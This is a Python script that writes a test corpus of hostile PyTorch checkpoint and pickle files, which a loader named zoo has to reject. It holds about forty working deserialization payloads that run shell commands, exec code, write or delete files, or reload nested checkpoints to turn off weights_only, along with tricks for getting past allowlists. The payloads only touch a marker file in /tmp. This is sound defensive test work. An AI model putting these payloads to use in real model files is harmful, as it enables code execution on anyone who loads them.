#!/usr/bin/env python3
"""Writes the hostile-pickle corpus `Tests/Fixtures/hostile/` and its `manifest.json`.

Every file is a real attack: loaded with Python's `pickle.load`, or with an old (or
`weights_only=False`) `torch.load`, it runs a command, runs Python code, writes or deletes a
file, opens a browser or loads another pickle. zoo must refuse every one of them with a
security error naming the symbol listed in the manifest: the FIRST symbol of the file that
only an attack would name (a reader refuses at the first one; later ones are never reached).

The payloads only touch `/tmp/zoo-pwned-hostile-<stem>` (create it, or remove that path),
or open a browser on it, so that a test can notice if anything ever ran them.

Only the standard library is used: pickles are written opcode by opcode, then wrapped in
  * zip:    torch >= 1.6 layout: archive/data.pkl, archive/data/<key>, archive/version,
            archive/byteorder (stored, 64-byte aligned data, fixed timestamps);
  * legacy: torch 0.1.10 - 1.5 layout: magic number, protocol version 1001, sys_info, the
            object, the storage key list, then per storage int64 numel + raw bytes;
  * tar:    torch < 0.1.10 layout: members sys_info, pickle, tensors, storages.
Output is deterministic: rerunning writes identical bytes (the marshal payload embeds
CPython bytecode, so that one file is identical only for the same CPython minor version).

    python3 Tests/Fixtures/make_hostile.py            # write the corpus
    python3 Tests/Fixtures/make_hostile.py --check    # write nothing; fail if a file differs
    PY=/path/to/python-with-torch-and-numpy
    $PY Tests/Fixtures/make_hostile.py --prove        # see below

`--prove` never loads a committed file. For each payload it builds the SAME file with the
target path moved into a fresh temporary folder (and, for webbrowser, BROWSER set to
`touch %s`), loads that harmless twin with `torch.load(weights_only=False)` in a child
process started in that folder, and checks that the effect happened (the file appeared, or
the folder vanished). It needs an interpreter with torch (and numpy for runstring).
"""

import argparse
import io
import json
import marshal
import os
import pickletools
import struct
import subprocess
import sys
import tarfile
import tempfile
import zipfile

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "hostile")

# ----------------------------------------------------------------------------- opcodes

MARK, STOP, POP, TUPLE, TUPLE1, TUPLE2, TUPLE3 = b"(", b".", b"0", b"t", b"\x85", b"\x86", b"\x87"
EMPTY_TUPLE, EMPTY_LIST, EMPTY_DICT, APPENDS, SETITEMS = b")", b"]", b"}", b"e", b"u"
REDUCE, NEWOBJ, NEWOBJ_EX, OBJ, BUILD, BINPERSID = b"R", b"\x81", b"\x92", b"o", b"b", b"Q"
NONE, NEWTRUE, NEWFALSE, STACK_GLOBAL, MEMOIZE = b"N", b"\x88", b"\x89", b"\x93", b"\x94"


def proto(n):
    return b"\x80" + bytes([n])


def framed(body):
    """PROTO 4 + one FRAME holding the whole pickle."""
    return proto(4) + b"\x95" + struct.pack("<Q", len(body)) + body


def u(text):
    """BINUNICODE (protocols 1+), or SHORT_BINUNICODE would do for protocol 4."""
    raw = text.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def su(text):
    """SHORT_BINUNICODE (protocol 4)."""
    raw = text.encode()
    assert len(raw) < 256
    return b"\x8c" + bytes([len(raw)]) + raw


def binbytes(raw):
    return b"B" + struct.pack("<I", len(raw)) + raw  # protocol 3


def integer(n):
    if 0 <= n < 256:
        return b"K" + bytes([n])
    if 0 <= n < 65536:
        return b"M" + struct.pack("<H", n)
    return b"J" + struct.pack("<i", n)


def put(i):
    return b"q" + bytes([i])


def get(i):
    return b"h" + bytes([i])


def glob(module, name):
    """GLOBAL: the symbol as two text lines (every protocol)."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def sglob(module, name):
    """STACK_GLOBAL (protocol 4): the symbol from two strings on the stack."""
    return su(module) + su(name) + STACK_GLOBAL


def tup(*items):
    return MARK + b"".join(items) + TUPLE


def lst(*items):
    return EMPTY_LIST + (MARK + b"".join(items) + APPENDS if items else b"")


def dct(*pairs):
    return EMPTY_DICT + (MARK + b"".join(k + v for k, v in pairs) + SETITEMS if pairs else b"")


def call(func, *args):
    """func(*args) through REDUCE."""
    return func + tup(*args) + REDUCE


def text_list(*words):
    return lst(*[u(w) for w in words])


# ----------------------------------------------------------------------------- wrappers

SYS_INFO = [(u("protocol_version"), integer(1001)), (u("little_endian"), NEWTRUE),
            (u("type_sizes"), dct((u("short"), integer(2)), (u("int"), integer(4)), (u("long"), integer(4))))]


def sys_info_pickle(extra=b""):
    return proto(2) + dct(*SYS_INFO) + extra + STOP


FIXED_TIME = (1980, 1, 1, 0, 0, 0)


def zip_archive(data_pkl, storages=()):
    """torch >= 1.6 checkpoint: archive/data.pkl first, storages as archive/data/<key>."""
    records = [("archive/data.pkl", data_pkl), ("archive/byteorder", b"little")]
    records += [(f"archive/data/{key}", raw) for key, raw in storages]
    records += [("archive/version", b"3\n")]
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as zf:
        for name, data in records:
            info = zipfile.ZipInfo(name, date_time=FIXED_TIME)
            info.compress_type = zipfile.ZIP_STORED
            info.create_system = 3
            info.external_attr = 0o644 << 16
            offset = zf.fp.tell()
            pad = (-(offset + 30 + len(name.encode()) + 4)) % 64  # data 64-byte aligned, as torch writes
            info.extra = struct.pack("<HH", 0x4246, pad) + b"Z" * pad
            zf.writestr(info, data)
    return buffer.getvalue()


MAGIC = proto(2) + b"\x8a\x0a" + (0x1950A86A20F9469CFC6C).to_bytes(10, "little") + STOP
LEGACY_VERSION = proto(2) + integer(1001) + STOP


def legacy_file(main, keys=None, sys_info=None, storages=()):
    """torch 0.1.10 - 1.5 checkpoint: pickles in sequence, then the raw storages."""
    if keys is None:
        keys = proto(2) + lst(*[u(k) for k, _ in storages]) + STOP
    out = MAGIC + LEGACY_VERSION + (sys_info or sys_info_pickle()) + main + keys
    for _, raw in storages:
        out += struct.pack("<q", len(raw) // 4) + raw  # float32 storages
    return out


def tar_file(pickle_member):
    """torch < 0.1.10 checkpoint: no storages, no tensors, the object in member `pickle`."""
    members = [("sys_info", sys_info_pickle()), ("pickle", pickle_member),
               ("tensors", proto(2) + integer(0) + STOP),
               ("storages", proto(2) + integer(0) + STOP + proto(2) + EMPTY_LIST + STOP)]
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.USTAR_FORMAT) as tf:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size, info.mtime, info.mode = len(data), 0, 0o644
            info.uid = info.gid = 0
            info.uname = info.gname = ""
            tf.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


# ----------------------------------------------------------------------------- valid tensors

W_BYTES = struct.pack("<2f", 1.0, 2.0)


def ordered_dict():
    return call(glob("collections", "OrderedDict"))


def storage_pid(key=None, location=None, legacy=False):
    """('storage', torch.FloatStorage, key, location, numel[, view]) + BINPERSID."""
    fields = [u("storage"), glob("torch", "FloatStorage"), key or u("0"), location or u("cpu"), integer(2)]
    if legacy:
        fields.append(NONE)
    return tup(*fields) + BINPERSID


def tensor(pid=None, hooks=None, metadata=None):
    """torch._utils._rebuild_tensor_v2(storage, 0, (2,), (1,), False, hooks[, metadata])."""
    args = [pid or storage_pid(), integer(0), integer(2) + TUPLE1, integer(1) + TUPLE1, NEWFALSE,
            hooks or ordered_dict()]
    if metadata is not None:
        args.append(metadata)
    return call(glob("torch._utils", "_rebuild_tensor_v2"), *args)


def state_dict(**tensors):
    """proto 2 OrderedDict {'w': tensor, ...}, as torch.save writes a state dict."""
    items = b"".join(u(k) + v for k, v in tensors.items())
    return proto(2) + ordered_dict() + MARK + items + SETITEMS + STOP


# ----------------------------------------------------------------------------- payloads


class Target:
    """What a payload acts on. The committed corpus targets /tmp/zoo-pwned-hostile-<stem>;
    `--prove` moves the target into a temporary folder."""

    def __init__(self, stem, folder="/tmp"):
        self.path = os.path.join(folder, f"zoo-pwned-hostile-{stem}")

    @property
    def cmd(self):
        return f"touch {self.path}"

    @property
    def code(self):
        return f"open({self.path!r}, 'w').close()"


def sh(t):
    return text_list("sh", "-c", t.cmd)


def nested_legacy(t):
    """A whole legacy checkpoint whose object is posix.system(cmd): what the load-recursion
    payloads hand to torch.load."""
    return legacy_file(proto(2) + call(glob("posix", "system"), u(t.cmd)) + STOP, keys=proto(2) + EMPTY_LIST + STOP)


def pickle_module():
    """The `pickle` module object, as torch.serialization imports it: passing it as torch.load's
    pickle_module makes torch >= 2.6 default to weights_only=False again."""
    return glob("torch.serialization", "pickle")


def bytes_io(raw):
    return call(glob("io", "BytesIO"), binbytes(raw))


PAYLOADS = []


def payload(name, wrapper, symbol, what, effect="create", note=None):
    def register(build):
        PAYLOADS.append(dict(name=name, wrapper=wrapper, symbol=symbol, what=what, effect=effect,
                             note=note, build=build))
        return build
    return register


@payload("os_system_proto0.pth", "zip", "os.system",
         "protocol 0 text pickle: GLOBAL 'os system', STRING cmd, TUPLE, REDUCE -> os.system(cmd)")
def _(t):
    return zip_archive(b"(dp0\nVpayload\np1\ncos\nsystem\np2\n(V" + t.cmd.encode() + b"\np3\ntp4\nRp5\ns.")


@payload("posix_system_legacy.pth", "legacy", "posix.system",
         "legacy main pickle {'model': posix.system(cmd)}: os.system as Linux pickles it")
def _(t):
    return legacy_file(proto(2) + dct((u("model"), call(glob("posix", "system"), u(t.cmd)))) + STOP)


@payload("nt_system.pth", "zip", "nt.system",
         "nt.system(cmd): os.system as Windows pickles it (runs on Windows)", effect="windows")
def _(t):
    return zip_archive(proto(2) + call(glob("nt", "system"), u(t.cmd)) + STOP)


@payload("subprocess_popen.pth", "zip", "subprocess.Popen",
         "subprocess.Popen(['sh', '-c', cmd]) through REDUCE")
def _(t):
    return zip_archive(proto(2) + dct((u("payload"), call(glob("subprocess", "Popen"), sh(t)))) + STOP)


@payload("subprocess_check_output_inst.pth", "zip", "subprocess.check_output",
         "protocol 0 INST opcode: MARK, list ['sh', '-c', cmd], INST 'subprocess check_output' calls it")
def _(t):
    words = b"".join(b"V" + w.encode() + b"\n" for w in ("sh", "-c", t.cmd))
    return zip_archive(b"(" + b"(" + words + b"l" + b"isubprocess\ncheck_output\n" + b".")


@payload("builtins_exec.pth", "zip", "builtins.exec", "protocol 3 builtins.exec(code)")
def _(t):
    return zip_archive(proto(3) + call(glob("builtins", "exec"), u(t.code)) + STOP)


@payload("builtin_eval_obj.pth", "zip", "__builtin__.eval",
         "protocol 1 OBJ opcode: MARK, GLOBAL '__builtin__ eval', code, OBJ -> eval(code)")
def _(t):
    return zip_archive(MARK + glob("__builtin__", "eval") + u(f"__import__('os').system({t.cmd!r})") + OBJ + STOP)


@payload("getattr_import_chain.pth", "zip", "builtins.getattr",
         "getattr(__import__('os'), 'system')(cmd): no os symbol in the file")
def _(t):
    system = call(glob("builtins", "getattr"), call(glob("builtins", "__import__"), u("os")), u("system"))
    return zip_archive(proto(3) + system + tup(u(t.cmd)) + REDUCE + STOP)


@payload("builtins_import.pth", "zip", "builtins.__import__",
         "os = __import__('os') (memo 0); operator.methodcaller('system', cmd)(os)")
def _(t):
    os_module = call(glob("builtins", "__import__"), u("os")) + put(0) + POP
    caller = call(glob("operator", "methodcaller"), u("system"), u(t.cmd))
    return zip_archive(proto(3) + os_module + caller + tup(get(0)) + REDUCE + STOP)


@payload("builtins_compile.pth", "zip", "builtins.compile",
         "exec(compile(code, '<payload>', 'exec')): the code object is built first")
def _(t):
    code = call(glob("builtins", "compile"), u(t.code), u("<payload>"), u("exec")) + put(0) + POP
    return zip_archive(proto(3) + code + call(glob("builtins", "exec"), get(0)) + STOP)


@payload("builtins_open_write.pth", "zip", "builtins.open",
         "f = open(path, 'w') (creates or truncates any file the user can write); f.write('pwned')")
def _(t):
    handle = call(glob("builtins", "open"), u(t.path), u("w")) + put(0) + POP
    write = call(glob("operator", "methodcaller"), u("write"), u("pwned\n"))
    return zip_archive(proto(3) + handle + write + tup(get(0)) + REDUCE + STOP)


@payload("io_open_write.pth", "zip", "io.open",
         "io.open(path, 'w'): builtins.open under another module's name")
def _(t):
    return zip_archive(proto(3) + call(glob("io", "open"), u(t.path), u("w")) + STOP)


@payload("stack_global_memo.pth", "zip", "subprocess.getoutput",
         "protocol 4, FRAME: 'subprocess' and 'getoutput' memoised and popped, BINGET 0, BINGET 1, "
         "STACK_GLOBAL: the symbol's strings never sit next to STACK_GLOBAL")
def _(t):
    body = (su("subprocess") + MEMOIZE + POP + su("getoutput") + MEMOIZE + POP + EMPTY_DICT + MEMOIZE
            + su("payload") + MEMOIZE + get(0) + get(1) + STACK_GLOBAL + MEMOIZE + su(t.cmd) + MEMOIZE + TUPLE1
            + REDUCE + MEMOIZE + b"s" + STOP)
    return zip_archive(framed(body))


@payload("tensor_metadata_rmtree.pth", "zip", "shutil.rmtree",
         "valid 2-tensor state dict; the first tensor's _rebuild_tensor_v2 metadata argument is "
         "shutil.rmtree(path, True)", effect="remove")
def _(t):
    evil = call(glob("shutil", "rmtree"), u(t.path), NEWTRUE)
    pkl = state_dict(w=tensor(metadata=evil), b=tensor(pid=storage_pid(key=u("1"))))
    return zip_archive(pkl, [("0", W_BYTES), ("1", W_BYTES)])


@payload("tensor_hooks_pty.pth", "zip", "pty.spawn",
         "valid state dict; the tensor's backward_hooks OrderedDict holds pty.spawn(['sh', '-c', cmd])")
def _(t):
    hooks = call(glob("collections", "OrderedDict"), lst(tup(integer(0), call(glob("pty", "spawn"), sh(t)))))
    return zip_archive(state_dict(w=tensor(hooks=hooks)), [("0", W_BYTES)])


@payload("persistent_id_popen.pth", "zip", "os.popen",
         "valid state dict whose storage persistent id tuple has os.popen(cmd) as its key: it runs "
         "before torch's persistent_load ever sees the tuple")
def _(t):
    pid = storage_pid(key=call(glob("os", "popen"), u(t.cmd)))
    return zip_archive(state_dict(w=tensor(pid=pid)), [("0", W_BYTES)])


@payload("legacy_sys_info.pth", "legacy", "subprocess.call",
         "legacy file whose sys_info pickle (3rd pickle, before the object) has "
         "subprocess.call(['sh', '-c', cmd]) as a value")
def _(t):
    extra = call(glob("subprocess", "call"), sh(t))
    info = proto(2) + dct(*SYS_INFO, (u("build"), extra)) + STOP
    main = proto(2) + dct((u("w"), tensor(pid=storage_pid(legacy=True)))) + STOP
    return legacy_file(main, sys_info=info, storages=[("0", W_BYTES)])


@payload("legacy_storage_keys.pth", "legacy", "os.spawnlp",
         "legacy file with a valid object; the storage key list pickle (after the object) is "
         "['0', os.spawnlp(os.P_WAIT, 'sh', 'sh', '-c', cmd)]")
def _(t):
    main = proto(2) + dct((u("w"), tensor(pid=storage_pid(legacy=True)))) + STOP
    spawn = call(glob("os", "spawnlp"), integer(0), u("sh"), u("sh"), u("-c"), u(t.cmd))
    keys = proto(2) + lst(u("0"), spawn) + STOP
    return legacy_file(main, keys=keys, storages=[("0", W_BYTES)])


@payload("torch_serialization_load.pth", "zip", "torch.serialization.load",
         "torch.serialization.load(io.BytesIO(<a legacy checkpoint running posix.system>), None, pickle): "
         "load recursion; the pickle module argument turns weights_only off on torch >= 2.6")
def _(t):
    load = call(glob("torch.serialization", "load"), bytes_io(nested_legacy(t)), NONE, pickle_module())
    return zip_archive(proto(3) + load + STOP)


@payload("torch_load.pth", "zip", "torch.load",
         "torch.load(io.BytesIO(<a legacy checkpoint running posix.system>), None, pickle)")
def _(t):
    load = call(glob("torch", "load"), bytes_io(nested_legacy(t)), NONE, pickle_module())
    return zip_archive(proto(3) + dct((u("state_dict"), load)) + STOP)


@payload("torch_storage_load_from_bytes.pth", "zip", "torch.storage._load_from_bytes",
         "torch.storage._load_from_bytes(<a legacy checkpoint running posix.system>): what a pickled "
         "storage reduces to; it calls torch.load(..., weights_only=False) itself")
def _(t):
    return zip_archive(proto(3) + call(glob("torch.storage", "_load_from_bytes"), binbytes(nested_legacy(t))) + STOP)


@payload("functools_partial.pth", "zip", "functools.partial",
         "functools.partial(posix.system, cmd) through REDUCE, then called with ()")
def _(t):
    partial = call(glob("functools", "partial"), glob("posix", "system"), u(t.cmd))
    return zip_archive(proto(2) + partial + EMPTY_TUPLE + REDUCE + STOP)


@payload("newobj_partial.pth", "zip", "functools.partial",
         "NEWOBJ: partial.__new__(partial, posix.system, cmd) builds the call, REDUCE with () makes it")
def _(t):
    partial = glob("functools", "partial") + tup(glob("posix", "system"), u(t.cmd)) + NEWOBJ
    return zip_archive(proto(2) + partial + EMPTY_TUPLE + REDUCE + STOP)


@payload("operator_attrgetter.pth", "zip", "operator.attrgetter",
         "operator.attrgetter('system')(shlex.os)(cmd): os reached as an attribute of an innocent module")
def _(t):
    getter = call(glob("operator", "attrgetter"), u("system"))
    system = getter + tup(glob("shlex", "os")) + REDUCE
    return zip_archive(proto(3) + system + tup(u(t.cmd)) + REDUCE + STOP)


@payload("operator_methodcaller_newobj_ex.pth", "zip", "operator.methodcaller",
         "protocol 4 NEWOBJ_EX: methodcaller.__new__(methodcaller, 'system', cmd, **{}) then called on "
         "argparse._os (the os module)")
def _(t):
    caller = sglob("operator", "methodcaller") + tup(su("system"), su(t.cmd)) + EMPTY_DICT + NEWOBJ_EX
    return zip_archive(framed(caller + tup(sglob("argparse", "_os")) + REDUCE + STOP))


@payload("runpy_run_code.pth", "zip", "runpy._run_code", "runpy._run_code(code, {}): exec under another name")
def _(t):
    return zip_archive(proto(2) + call(glob("runpy", "_run_code"), u(t.code), EMPTY_DICT) + STOP)


@payload("importlib_import_module.pth", "zip", "importlib.import_module",
         "os = importlib.import_module('os') (memo 0); operator.methodcaller('system', cmd)(os)")
def _(t):
    os_module = call(glob("importlib", "import_module"), u("os")) + put(0) + POP
    caller = call(glob("operator", "methodcaller"), u("system"), u(t.cmd))
    return zip_archive(proto(3) + os_module + caller + tup(get(0)) + REDUCE + STOP)


@payload("pickle_loads_nested.pth", "zip", "pickle.loads",
         "pickle.loads(b\"cos\\nsystem\\n(V<cmd>\\ntR.\"): a second pickle smuggled as bytes")
def _(t):
    inner = b"cos\nsystem\n(V" + t.cmd.encode() + b"\ntR."
    return zip_archive(proto(3) + call(glob("pickle", "loads"), binbytes(inner)) + STOP)


@payload("marshal_function.pth", "zip", "types.FunctionType",
         "types.FunctionType(marshal.loads(<CPython 3.11 bytecode>), {})(): code smuggled as a code object "
         "(bytecode of the generating CPython; runs on that minor version)")
def _(t):
    blob = marshal.dumps(compile(t.code, "<payload>", "exec"))
    function = call(glob("types", "FunctionType"), call(glob("marshal", "loads"), binbytes(blob)), EMPTY_DICT)
    return zip_archive(proto(3) + function + EMPTY_TUPLE + REDUCE + STOP)


@payload("numpy_runstring.pth", "zip", "numpy.testing._private.utils.runstring",
         "numpy.testing._private.utils.runstring(code, {}): exec(code) inside numpy")
def _(t):
    return zip_archive(proto(2) + call(glob("numpy.testing._private.utils", "runstring"), u(t.code), EMPTY_DICT) + STOP)


@payload("webbrowser_open.pth", "zip", "webbrowser.open",
         "webbrowser.open(url): runs the user's browser (or $BROWSER) on an attacker's URL", effect="browser")
def _(t):
    return zip_archive(proto(2) + call(glob("webbrowser", "open"), u(t.path)) + STOP)


@payload("asyncio_subprocess.pth", "zip", "asyncio.run",
         "asyncio.run(asyncio.create_subprocess_shell(cmd))")
def _(t):
    shell = call(glob("asyncio", "create_subprocess_shell"), u(t.cmd))
    return zip_archive(proto(2) + call(glob("asyncio", "run"), shell) + STOP)


@payload("timeit_exec.pth", "zip", "timeit.timeit",
         "timeit.timeit(code, 'pass', time.perf_counter, 1): the statement is compiled and run once")
def _(t):
    timer = glob("time", "perf_counter")
    return zip_archive(proto(2) + call(glob("timeit", "timeit"), u(t.code), u("pass"), timer, integer(1)) + STOP)


@payload("copyreg_reconstructor_popen.pth", "zip", "subprocess.Popen",
         "copyreg._reconstructor(Popen, Popen, ['sh', '-c', cmd]): an allowed callable whose base.__init__ "
         "runs Popen.__init__")
def _(t):
    popen = glob("subprocess", "Popen")
    return zip_archive(proto(2) + call(glob("copyreg", "_reconstructor"), popen, popen, sh(t)) + STOP)


@payload("dotted_torch_serialization_load.pth", "zip", "torch.serialization.load",
         "protocol 4 STACK_GLOBAL module 'torch' name 'serialization.load': find_class walks the dots to "
         "torch.serialization.load; loads a nested legacy checkpoint running posix.system")
def _(t):
    load = sglob("torch", "serialization.load") + tup(bytes_io(nested_legacy(t)), NONE, sglob("torch", "serialization.pickle")) + REDUCE
    return zip_archive(framed(load + STOP))


@payload("dotted_pathlib_os_system.pth", "zip", "pathlib.os.system",
         "protocol 4 STACK_GLOBAL module 'pathlib' name 'os.system': os.system reached through an innocent module")
def _(t):
    return zip_archive(framed(sglob("pathlib", "os.system") + su(t.cmd) + TUPLE1 + REDUCE + STOP))


@payload("dunder_globals.pth", "zip", "torch._utils._rebuild_tensor_v2.__globals__",
         "protocol 4: g = torch._utils._rebuild_tensor_v2.__globals__ (memo 0); b = dict.get(g, '__builtins__'); "
         "dict.get(b, 'exec')(code)")
def _(t):
    g = sglob("torch._utils", "_rebuild_tensor_v2.__globals__") + MEMOIZE + POP  # memo 0, first symbol
    builtins_dict = sglob("builtins", "dict.get") + tup(get(0), su("__builtins__")) + REDUCE
    exec_ = sglob("builtins", "dict.get") + tup(builtins_dict, su("exec")) + REDUCE
    return zip_archive(framed(g + exec_ + tup(su(t.code)) + REDUCE + STOP))


@payload("dunder_builtins.pth", "zip", "torch._utils.__builtins__",
         "protocol 4: the module attribute torch._utils.__builtins__ (the builtins dict, memo 0), then "
         "dict.get(it, 'eval')(code)")
def _(t):
    b = sglob("torch._utils", "__builtins__") + MEMOIZE + POP  # memo 0, first symbol
    eval_ = sglob("builtins", "dict.get") + tup(get(0), su("eval")) + REDUCE
    return zip_archive(framed(b + eval_ + tup(su(f"__import__('os').system({t.cmd!r})")) + REDUCE + STOP))


@payload("tar_pickle.pth", "tar", "os.system",
         "tar-format checkpoint (sys_info, pickle, tensors, storages) whose `pickle` member is "
         "{'state_dict': os.system(cmd)}")
def _(t):
    return tar_file(proto(2) + dct((u("state_dict"), call(glob("os", "system"), u(t.cmd)))) + STOP)


# ----------------------------------------------------------------------------- checks


def pickles_of(data, wrapper):
    """Every pickle inside a wrapped file, for disassembly."""
    if wrapper == "zip":
        with zipfile.ZipFile(io.BytesIO(data)) as zf:
            return [zf.read("archive/data.pkl")]
    if wrapper == "tar":
        with tarfile.open(fileobj=io.BytesIO(data)) as tf:
            return [tf.extractfile(m).read() for m in ("sys_info", "pickle")]
    out, f = [], io.BytesIO(data)
    for _ in range(5):
        start = f.tell()
        for _ in pickletools.genops(f):
            pass
        out.append(data[start:f.tell()])
    return out


def symbols(pkl):
    """(module, name) of every GLOBAL / INST / STACK_GLOBAL in order, STACK_GLOBAL resolved
    through the memo. Static: nothing is imported or called."""
    found, memo, stack, last = [], {}, [], None
    for op, arg, _ in pickletools.genops(pkl):
        if op.name in ("GLOBAL", "INST"):
            found.append(tuple(arg.split(" ", 1)))
        elif op.name in ("SHORT_BINUNICODE", "BINUNICODE", "UNICODE"):
            stack.append(arg)
        elif op.name in ("BINGET", "GET", "LONG_BINGET"):
            stack.append(memo.get(arg))
        elif op.name == "MEMOIZE":
            memo[len(memo)] = last
        elif op.name in ("BINPUT", "PUT", "LONG_BINPUT"):
            memo[arg] = last
        elif op.name == "STACK_GLOBAL":
            found.append((stack[-2], stack[-1]))
        if op.name not in ("MEMOIZE", "BINPUT", "PUT", "LONG_BINPUT"):
            last = arg if op.name in ("SHORT_BINUNICODE", "BINUNICODE", "UNICODE") else None
    return found


# Symbols an honest checkpoint names; the manifest's symbol must be the first one that is not.
BENIGN = {"collections.OrderedDict", "torch._utils._rebuild_tensor_v2", "torch.FloatStorage", "copyreg._reconstructor"}


def check_payload(p, data):
    found = []
    for pkl in pickles_of(data, p["wrapper"]):
        pickletools.dis(pkl, out=io.StringIO())  # well-formed
        found += [f"{m}.{n}" for m, n in symbols(pkl)]
    first = [s for s in found if s not in BENIGN][:1]
    assert first == [p["symbol"]], (p["name"], found)


def manifest_entry(p):
    entry = {"name": p["name"], "wrapper": p["wrapper"], "symbol": p["symbol"], "what": p["what"]}
    if p["effect"] == "windows":
        entry["platform"] = "windows"
    return entry


def write_corpus(check_only):
    os.makedirs(OUT, exist_ok=True)
    names = [p["name"] for p in PAYLOADS]
    assert len(names) == len(set(names))
    differ = []
    for p in PAYLOADS:
        data = p["build"](Target(os.path.splitext(p["name"])[0]))
        check_payload(p, data)
        path = os.path.join(OUT, p["name"])
        old = open(path, "rb").read() if os.path.exists(path) else None
        if old != data:
            differ.append(p["name"])
            if not check_only:
                with open(path, "wb") as f:
                    f.write(data)
    manifest = json.dumps({"note": "Written by make_hostile.py; each file must be refused with kind "
                                   "'security' and a message naming `symbol`.",
                           "payloads": [manifest_entry(p) for p in PAYLOADS]}, indent=1) + "\n"
    mpath = os.path.join(OUT, "manifest.json")
    if not os.path.exists(mpath) or open(mpath).read() != manifest:
        differ.append("manifest.json")
        if not check_only:
            with open(mpath, "w") as f:
                f.write(manifest)
    extra = sorted(set(os.listdir(OUT)) - set(names) - {"manifest.json"})
    print(f"{len(PAYLOADS)} payloads; {'differ' if check_only else 'rewritten'}: {differ or 'none'}; "
          f"files not in the manifest: {extra or 'none'}")
    return not (check_only and differ) and not extra


PROVE_CHILD = r"""
import sys, torch
try:
    torch.load(sys.argv[1], map_location="cpu", weights_only=False)
except BaseException as error:
    print(type(error).__name__, str(error)[:200])
"""


def prove():
    """Loads a harmless twin of every payload with torch.load(weights_only=False) in a child
    process and checks that the attack happened. Never touches the committed files."""
    failures = []
    for p in PAYLOADS:
        if p["effect"] == "windows":
            print(f"skip   {p['name']}: Windows only")
            continue
        with tempfile.TemporaryDirectory(prefix="zoo-hostile-prove-") as folder:
            stem = os.path.splitext(p["name"])[0]
            target = Target(stem, folder)
            path = os.path.join(folder, p["name"])
            with open(path, "wb") as f:
                f.write(p["build"](target))
            env = dict(os.environ)
            if p["effect"] == "remove":
                os.mkdir(target.path)
            if p["effect"] == "browser":
                env["BROWSER"] = "touch %s"
            result = subprocess.run([sys.executable, "-c", PROVE_CHILD, path], cwd=folder, env=env,
                                    stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=120)
            for _ in range(50):  # asyncio / browser children may finish after the loader
                done = os.path.exists(target.path) != (p["effect"] == "remove")
                if done:
                    break
                import time
                time.sleep(0.1)
            print(f"{'ran   ' if done else 'FAILED'} {p['name']}: {result.stdout.strip()[:120]}")
            if not done:
                failures.append(p["name"])
    print(f"{len(PAYLOADS)} payloads, {len(failures)} did not run: {failures}")
    return not failures


if __name__ == "__main__":
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--check", action="store_true", help="write nothing; fail if a file would change")
    parser.add_argument("--prove", action="store_true", help="run harmless twins under torch.load (needs torch)")
    args = parser.parse_args()
    ok = prove() if args.prove else write_corpus(args.check)
    sys.exit(0 if ok else 1)
